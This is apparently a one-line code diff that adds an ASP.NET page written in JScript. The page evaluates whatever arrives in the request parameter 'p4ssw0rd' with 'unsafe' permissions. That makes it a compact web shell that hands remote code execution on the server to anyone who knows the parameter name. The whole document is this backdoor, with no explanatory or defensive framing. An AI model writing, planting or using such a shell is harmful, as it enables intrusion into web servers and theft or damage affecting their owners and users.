@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(Request.Item["p4ssw0rd"],"unsafe");%>
